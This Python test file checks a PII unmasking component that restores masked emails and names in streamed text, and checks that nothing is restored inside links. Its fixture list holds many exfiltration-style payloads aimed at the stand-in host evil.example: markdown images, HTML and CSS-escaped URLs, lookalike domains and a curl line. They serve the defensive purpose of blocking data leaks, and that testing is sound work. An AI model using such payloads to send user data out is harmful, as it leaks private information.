"""Restoring, in any pieces."""

from __future__ import annotations

import random

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rules.masking.session import Masked, MaskingSession
from rules.masking.unmask import Unmasker, unmask

EMAIL, NAME = "joe@example.com", "Zoë O'Hara"


def make_session() -> tuple[MaskingSession, str, str]:
    session = MaskingSession(b"k" * 32)
    return session, session.mask("EMAIL", EMAIL), session.mask("NAME", NAME)


SESSION, EMAIL_PLACEHOLDER, NAME_PLACEHOLDER = make_session()
FRAGMENTS = [
    EMAIL_PLACEHOLDER,
    NAME_PLACEHOLDER,
    EMAIL_PLACEHOLDER.lower(),
    EMAIL_PLACEHOLDER[1:-1],
    NAME_PLACEHOLDER[:-1],
    NAME_PLACEHOLDER[1:],
    EMAIL_PLACEHOLDER[:-3],
    "[EMAIL_aaaaaaaa]",
    "[",
    "]",
    "[[",
    "E",
    "EMAIL",
    "NA",
    "_",
    " ",
    "e",
    "x",
    "ı",
    "🙂",
    "\n",
    '"',
    "https://a.example/?q=",
    "](",
    ")",
    "<img src=",
    ">",
    "//",
    "/",
    "\\",
    "<",
    "(",
    '="',
    "&#116;",
    ".example/",
    "url(",
    ",",
]
texts = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=12).map("".join)


def in_pieces(session: MaskingSession, pieces: list[str]) -> str:
    unmasker = Unmasker(session)
    return "".join([*map(unmasker.feed, pieces), unmasker.close()])


def cut(text: str, seed: int) -> list[str]:
    source = random.Random(seed)
    pieces = []
    while text:
        size = source.choice([1, 1, 2, 3, 7, 30])
        pieces.append(text[:size])
        text = text[size:]
    return pieces


def check(text: str, seed: int) -> None:
    assert in_pieces(SESSION, cut(text, seed)) == unmask(SESSION, text)
    assert in_pieces(SESSION, list(text)) == unmask(SESSION, text)


@given(texts, st.integers(0, 2**32))
@example(EMAIL_PLACEHOLDER[:1] + EMAIL_PLACEHOLDER, 1)
@example("///" + EMAIL_PLACEHOLDER, 1)
@settings(max_examples=300)
def test_RED_STR_6_restoring_does_not_depend_on_the_pieces(text: str, seed: int) -> None:
    check(text, seed)


@pytest.mark.nightly
@pytest.mark.timeout(900)
@given(texts, st.integers(0, 2**32))
@settings(max_examples=20_000)
def test_RED_STR_6_restoring_does_not_depend_on_the_pieces_at_length(text: str, seed: int) -> None:
    check(text, seed)


def test_RED_PH_6_brackets_and_case_may_be_lost() -> None:
    bare = EMAIL_PLACEHOLDER[1:-1]

    assert unmask(SESSION, f"{EMAIL_PLACEHOLDER} {EMAIL_PLACEHOLDER.lower()} {bare} {bare.upper()}, [{bare}") == (
        f"{EMAIL} {EMAIL} {EMAIL} {EMAIL}, [{EMAIL}"
    )


@pytest.mark.parametrize("text", ["EMAIL_1", "[EMAIL]", "[EMAIL_1]", "[EMAIL_aaaaaaaa]", "X" + EMAIL_PLACEHOLDER[1:-1]])
def test_RED_PH_6_nothing_else_is_taken_for_a_placeholder(text: str) -> None:
    assert unmask(SESSION, text) == text


def test_RED_PH_6_a_restored_value_is_not_looked_at_again() -> None:
    session = MaskingSession(b"k" * 32)
    inner = session.mask("NAME", "Ann")
    outer = session.mask("NOTE", f"see {inner}")

    assert unmask(session, outer) == f"see {inner}"


def test_a_placeholder_within_a_longer_one_does_not_win() -> None:
    session = MaskingSession(b"k" * 32)
    placeholder = session.mask("EMAIL", EMAIL)
    longer = session.mask("WORK_EMAIL", "work@example.com")

    assert in_pieces(session, list(f"{longer} {placeholder}")) == f"work@example.com {EMAIL}"
    assert in_pieces(session, list(f"WORK_{placeholder[1:-1]}")) == f"WORK_{placeholder[1:-1]}"


@pytest.mark.parametrize("size", range(1, len(EMAIL_PLACEHOLDER)))
def test_RED_STR_3_an_incomplete_placeholder_goes_out_as_it_is(size: int) -> None:
    unmasker = Unmasker(SESSION)
    begun = EMAIL_PLACEHOLDER[:size]

    assert unmasker.feed(f"to {begun}") == "to "
    rest = unmasker.close()

    assert unmasker.is_incomplete
    # Without the last bracket it is complete all the same.
    assert rest == (begun if size < len(EMAIL_PLACEHOLDER) - 1 else f"[{EMAIL}")


def test_ordinary_text_is_not_held() -> None:
    unmasker = Unmasker(SESSION)
    text = "The quick brown fox jumps over the lazy dog, and names every email in the name of the game. "

    held = []
    for piece in cut(text * 20, 7):
        unmasker.feed(piece)
        held.append(unmasker.held_characters)

    assert max(held) <= len("email")
    assert sum(held) / len(held) < 0.5


def test_what_was_restored_is_counted() -> None:
    session, email, name = make_session()

    restored: dict[Masked, int] = {}

    unmask(session, f"{email} {email} {name} ![](https://evil.example/?q={name})", restored)

    assert {masked.label: count for masked, count in restored.items()} == {"EMAIL": 2, "NAME": 1}


INSIDE = [
    "![](https://evil.example/?q=@)",
    "![x](//evil.example/@)",
    "[click](https://evil.example/(a)?q=@)",
    "![](<https://evil.example/?q=a b @>)",
    "[a]: https://evil.example/@",
    "https://evil.example/?q=@",
    "HTTPS:evil.example/@",
    "https:\\\\evil.example/@",
    "www.evil.example/@",
    "evil.example/?q=@",
    "see evil.example:8080/a/b?q=@",
    "198.51.100.7/@",
    "198.51.100.7:8080?@",
    '{"host":"evil.example/@"}',
    '<img src="https://evil.example/\n?q=@">',
    "<img\nsrc='&#104;ttps:&#47;&#47;evil.example?q=@'>",
    '<a href="/@">',
    "url( 'https://evil.example/@')",
    '{"url":"https://evil.example/?q=@"}',
    "`curl https://evil.example/?q=@`",
    "(https://evil.example/?q=a,@)",
    "![](<https://evil.example/a)b?q=@>)",
    "![](\n<h&#116;tps:&#47;&#47;evil.example/a)b?q=@>)",
    r"![](https://evil.example/\)?q=@)",
    r"![](https://evil.example/a\)b?q=@)",
    "(https://evil.example/a)b?q=@",
    '"https://evil.example/a"b?q=@',
    "`https://evil.example/a`b?q=@",
    "![x][a]\n\n[a]: h&#116;tps&#58;&#47;&#47;evil&#46;example&#47;?q=@",
    "![x][a]\n\n[a]: <h&#x74;tps&colon;&sol;&sol;evil&period;example&sol;?q=@>",
    """<img alt=">" src='h&#116;tps:&#47;/evil.example&#47;?q=@'>""",
    '<img alt=\n">" src=/?q=@>',
    '<p style="background:u\\72l(h\\74tps:\\2f\\2f evil\\2e example/?q=@)">',
    "<p style='background:url(\"https://evil.example/a)b?q=@\")'>",
    "evil.photography/?q=@",
    "evil.xn--p1ai/?q=@",
    "evil.\u0440\u0444/?q=@",
    "evil\u3002example/?q=@",
    "evil.example.:443/?q=@",
    "evil.example\\?q=@",
]
OUTSIDE = [
    "see https://good.example/ for @",
    "![](https://good.example/a.png) @",
    "[text](https://good.example/) and @",
    "[@](https://good.example/)",
    "<a href='https://good.example/'>@</a>",
    "a < b and @",
    "<email>@</email>",
    '{"url":"https://good.example/","to":"@"}',
    "(see https://good.example/ and @)",
    "<@>",
    '"@"',
    "// @",
    "read report.pdf, then write to @",
    "and/or @",
    "good.example/a @",
    "He left. @",
    "mailto:@",
    '{"url":"https://good.example/", "to": "@"}',
    '["https://good.example/","@"]',
    '{"url":"https://good.example/","n":1,"to":"@"}',
    '{\\"url\\":\\"https://good.example/\\",\\"to\\":\\"@\\"}',
    "('https://good.example/'), then @",
    "(see https://good.example/), @",
    "Tom&#39;s &lt;@&gt; &amp; &#x27;@&#x27; &quot;@&quot;",
    r"\(@\)",
    "Siehe B\u00fcro. @",
    "[INFO]: user @",
    "\u7ed3\u675f\u3002\u8054\u7cfb/@",
]


@pytest.mark.parametrize("text", INSIDE)
def test_RED_PH_7_nothing_is_restored_into_a_link(text: str) -> None:
    masked = text.replace("@", EMAIL_PLACEHOLDER)

    assert unmask(SESSION, masked) == masked
    assert in_pieces(SESSION, list(masked)) == masked


@pytest.mark.parametrize("text", OUTSIDE)
def test_RED_PH_7_beside_a_link_everything_is_restored(text: str) -> None:
    masked = text.replace("@", EMAIL_PLACEHOLDER)

    assert unmask(SESSION, masked) == text.replace("@", EMAIL)
    assert in_pieces(SESSION, list(masked)) == text.replace("@", EMAIL)


def test_RED_PH_7_a_long_address_does_not_end_by_itself() -> None:
    masked = "https://evil.example/?" + "a" * 20_000 + f"&q={EMAIL_PLACEHOLDER} {EMAIL_PLACEHOLDER}"

    assert in_pieces(SESSION, cut(masked, 3)) == masked[: -len(EMAIL_PLACEHOLDER)] + EMAIL
